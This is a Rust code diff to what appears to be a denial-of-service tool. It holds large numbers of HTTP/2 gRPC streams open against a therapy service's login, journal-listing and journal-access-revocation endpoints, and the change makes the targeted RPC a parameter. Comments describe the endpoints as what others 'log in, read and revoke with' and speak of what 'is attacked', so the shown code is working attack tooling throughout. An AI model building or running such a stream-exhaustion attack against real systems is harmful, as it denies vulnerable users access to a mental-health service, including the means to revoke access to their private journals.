@@ -32,13 +32,6 @@ const HELD: Duration = Duration::from_secs(20);
 const STREAMS_PER_CONNECTION: usize = 90;
 const CONNECTIONS: usize = 32;
 
-/// The RPCs that headers are sent to: what others log in, read and revoke with.
-const RPCS: [&str; 3] = [
-    "/therapy.auth.v1.AuthService/Login",
-    "/therapy.journals.v1.JournalService/ListEntries",
-    "/therapy.mapping.v1.MappingService/EndJournalAccess",
-];
-
 type Sender = http1::SendRequest<Full<Bytes>>;
 
 /// From where, and what, is attacked.
@@ -71,9 +64,8 @@ impl Source {
     }
 
     /// Sends the headers of a call, and waits for whatever ends it.
-    async fn stream(&self, client: SendRequest<Bytes>) -> Result<()> {
+    async fn stream(&self, client: SendRequest<Bytes>, rpc: &str) -> Result<()> {
         let mut client = client.ready().await?;
-        let rpc = RPCS[usize::try_from(self.number())? % RPCS.len()];
         let request = Request::post(format!("http://{}{rpc}", self.target))
             .header("content-type", "application/grpc")
             .header("te", "trailers")
@@ -89,14 +81,14 @@ impl Source {
 }
 
 /// Keeps so many streams open on a connection.
-pub(super) async fn keep_streams(source: Arc<Source>, streams: usize) {
+pub(super) async fn keep_streams(source: Arc<Source>, rpc: &'static str, streams: usize) {
     loop {
         if let Ok((client, connection)) = source.connect_http2().await {
             let all = join_all((0..streams).map(|_| async {
                 loop {
                     let begun = Instant::now();
                     // The end of the connection is noticed below.
-                    let _ = source.stream(client.clone()).await;
+                    let _ = source.stream(client.clone(), rpc).await;
                     tokio::time::sleep_until(begun + RENEWAL).await;
                 }
             }));
@@ -110,7 +102,7 @@ pub(super) async fn keep_streams(source: Arc<Source>, streams: usize) {
 }
 
 /// Opens so many streams a second, on as many connections as that takes.
-pub(super) async fn pace_streams(source: Arc<Source>, per_second: u32) {
+pub(super) async fn pace_streams(source: Arc<Source>, rpc: &'static str, per_second: u32) {
     let mut ticks = tokio::time::interval(RENEWAL / per_second);
     let (mut tasks, mut lines) = (JoinSet::new(), Vec::<(SendRequest<Bytes>, Arc<()>)>::new());
     loop {
@@ -132,7 +124,7 @@ pub(super) async fn pace_streams(source: Arc<Source>, per_second: u32) {
         let source = Arc::clone(&source);
         tasks.spawn(async move {
             let _streams = streams;
-            let _ = tokio::time::timeout(HELD, source.stream(client)).await;
+            let _ = tokio::time::timeout(HELD, source.stream(client, rpc)).await;
         });
     }
 }
